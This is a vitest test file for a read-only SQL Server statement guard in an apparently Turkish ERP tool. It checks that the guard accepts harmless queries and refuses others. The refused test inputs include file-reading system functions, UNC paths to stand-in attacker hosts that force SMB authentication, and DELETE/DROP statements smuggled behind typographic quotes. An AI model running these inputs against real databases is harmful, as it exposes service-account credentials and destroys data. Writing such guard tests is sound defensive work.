// Statement guard, issue 12 §5: file-reading system functions and UNC paths are refused (they make
// the SQL Server service account read files or authenticate over SMB to any host); harmless
// Turkish text (’ “ ” inside strings and comments) and column names such as Enable / Disable pass;
// lock-taking hints stay refused.
import { describe, expect, it } from 'vitest';
import { checkReadOnlyStatement, type GuardReasonCode } from '../../main/core/mikro/guard/index.js';
import { translator } from '../../shared/i18n/translator.js';

const REFUSED: Array<[string, GuardReasonCode]> = [
  // file readers, by every spelling SQL Server accepts
  ["SELECT * FROM sys.fn_get_audit_file('\\\\evil\\s\\*.sqlaudit', DEFAULT, DEFAULT)", 'FILE_FUNCTION'],
  ["SELECT * FROM sys.fn_get_audit_file_v2('C:\\a\\*.sqlaudit', DEFAULT, DEFAULT, DEFAULT, DEFAULT)", 'FILE_FUNCTION'],
  ["SELECT * FROM sys.fn_xe_file_target_read_file('C:\\x\\*.xel', NULL, NULL, NULL)", 'FILE_FUNCTION'],
  ["SELECT * FROM master.sys.[fn_xe_file_target_read_file]('x', NULL, NULL, NULL)", 'FILE_FUNCTION'],
  ["SELECT * FROM fn_trace_gettable('C:\\t.trc', DEFAULT)", 'FILE_FUNCTION'],
  ["SELECT * FROM ::fn_trace_gettable('C:\\t.trc', DEFAULT)", 'FILE_FUNCTION'],
  ["SELECT * FROM sys.dm_os_file_exists('C:\\Windows\\win.ini')", 'FILE_FUNCTION'],
  ["SELECT * FROM sys.dm_os_enumerate_filesystem('C:\\', '*')", 'FILE_FUNCTION'],
  ['SELECT * FROM sys.dm_os_enumerate_fixed_drives', 'FILE_FUNCTION'],
  ["SELECT * FROM sys.fn_dump_dblog(NULL, NULL, N'DISK', 1, N'\\\\h\\b.bak', DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT, DEFAULT)", 'FILE_FUNCTION'],
  ['SELECT * FROM fn_dblog(NULL, NULL)', 'FILE_FUNCTION'],
  ['SELECT [Fn_Get_Audit_File] FROM t', 'FILE_FUNCTION'],
  // a UNC path handed to any function (known or not)
  ["SELECT dbo.some_clr_reader(N'\\\\attacker.example\\share\\x')", 'UNC_PATH'],
  ["SELECT LEN(UPPER('\\\\10.0.0.9\\c$'))", 'UNC_PATH'],
  ["SELECT x FROM t WHERE a = dbo.f(('//host/share'))", 'UNC_PATH'],
  ["SELECT [dbo].[reader]('\\\\?\\UNC\\h\\s')", 'UNC_PATH'],
  ["SELECT dbo.f(N'  \\\\h\\s')", 'UNC_PATH'],
  // lock-taking hints stay refused
  ['SELECT * FROM STOKLAR WITH (UPDLOCK)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (XLOCK, ROWLOCK)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (TABLOCKX)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (HOLDLOCK)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (TABLOCK)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (PAGLOCK)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (SERIALIZABLE)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (REPEATABLEREAD)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (READCOMMITTEDLOCK)', 'LOCKING_HINT'],
  ['SELECT * FROM STOKLAR WITH (READCOMMITTED)', 'LOCKING_HINT'],
  // ENABLE / DISABLE TRIGGER are still statements (TRIGGER is reserved)
  ['DISABLE TRIGGER ALL ON STOKLAR', 'DDL'],
  ['SELECT 1 ENABLE TRIGGER trg ON STOKLAR', 'DDL'],
  // typographic quotes outside a literal, or building a write when read as ASCII quotes
  ['SELECT \u2019x\u2019', 'UNUSUAL_CHARACTER'],
  ['SELECT \u201Cad\u201D FROM t', 'UNUSUAL_CHARACTER'],
  ["SELECT N'a\u2019 DELETE FROM STOKLAR --'", 'WRITE_KEYWORD'],
  ["SELECT N'a\u2019; DROP TABLE t; SELECT \u2019b'", 'MULTIPLE_STATEMENTS'],
  // the other look-alikes stay refused everywhere
  ["SELECT N'x\u02BC'", 'UNUSUAL_CHARACTER'],
  ["SELECT N'x\uFF07'", 'UNUSUAL_CHARACTER'],
];

const ACCEPTED: string[] = [
  "SELECT cari_kod FROM CARI_HESAPLAR WITH (NOLOCK) WHERE cari_unvan1 LIKE N'%İstanbul\u2019da%'",
  "SELECT N'Ali\u2019nin \u201Cözel\u201D siparişi' AS not_",
  "SELECT sto_kod FROM STOKLAR -- Ahmet\u2019in raporu\nWHERE sto_kod <> N''",
  "SELECT sto_kod /* \u201Ckampanya\u201D ürünleri, Ayşe\u2019nin listesi */ FROM STOKLAR",
  'SELECT [Müşteri\u2019nin adı] FROM t',
  'SELECT Enable, Disable FROM dbo.KULLANICILAR',
  'SELECT u.Enable AS aktif, u.Disable AS pasif FROM KULLANICILAR u WHERE u.Enable = 1 ORDER BY Disable',
  // paths compared as text, not handed to a function
  "SELECT dosya FROM BELGELER WHERE yol = N'\\\\fileserver\\arsiv\\a.pdf'",
  "SELECT dosya FROM BELGELER WHERE yol IN (N'\\\\fs\\a', N'\\\\fs\\b')",
  "SELECT dosya FROM BELGELER WHERE yol LIKE N'\\\\fs\\%'",
  // separators that are not paths
  "SELECT REPLACE(url, '//', '/'), REPLACE(yol, '\\\\', '/') FROM t",
  "SELECT LEFT(url, 8) FROM t WHERE url LIKE 'https://%'",
  // harmless metadata about files (no path chosen by the caller)
  'SELECT name, physical_name, size FROM sys.database_files',
  'SELECT * FROM sys.dm_io_virtual_file_stats(DB_ID(), NULL)',
  'SELECT * FROM STOKLAR WITH (NOLOCK, READPAST, ROWLOCK, INDEX(ix_sto))',
  'SELECT * FROM STOKLAR WITH (READUNCOMMITTED)',
];

describe('statement guard: ERP-safe reads (issue 12 §5)', () => {
  it.each(REFUSED)('refuses %j → %s', (sql, code) => {
    expect(checkReadOnlyStatement(sql)).toMatchObject({ ok: false, reasonCode: code });
  });

  it.each(ACCEPTED)('accepts %j', (sql) => {
    expect(checkReadOnlyStatement(sql)).toEqual({ ok: true, kind: 'select' });
  });

  it('names the file function and says why, in the technical reason', () => {
    const v = checkReadOnlyStatement("SELECT * FROM sys.fn_xe_file_target_read_file('\\\\h\\s\\x.xel', NULL, NULL, NULL)");
    expect(v).toMatchObject({ ok: false, reasonCode: 'FILE_FUNCTION', token: 'fn_xe_file_target_read_file' });
    if (!v.ok) expect(v.reason).toContain('service account');
  });

  it('names the UNC literal it refused', () => {
    const v = checkReadOnlyStatement("SELECT dbo.f(N'\\\\h\\s')");
    expect(v).toMatchObject({ ok: false, reasonCode: 'UNC_PATH', token: "N'\\\\h\\s'" });
  });

  it('a write hidden behind typographic quotes is refused under the ASCII reading, and says so', () => {
    const v = checkReadOnlyStatement("SELECT N'a\u2019 DELETE FROM STOKLAR --'");
    expect(v.ok).toBe(false);
    if (!v.ok) expect(v.reason).toContain('typographic quotes as ASCII quotes');
  });

  it('the new reasons have Turkish and English texts', () => {
    const tr = translator('tr');
    const en = translator('en');
    expect(tr.t({ key: 'mikro.guard.FILE_FUNCTION' })).toMatch(/hizmet hesabı/);
    expect(en.t({ key: 'mikro.guard.FILE_FUNCTION' })).toMatch(/service account/);
    expect(tr.t({ key: 'mikro.guard.UNC_PATH' })).toContain('\\\\sunucu\\paylaşım');
    expect(en.t({ key: 'mikro.guard.UNC_PATH' })).toContain('SMB');
  });
});
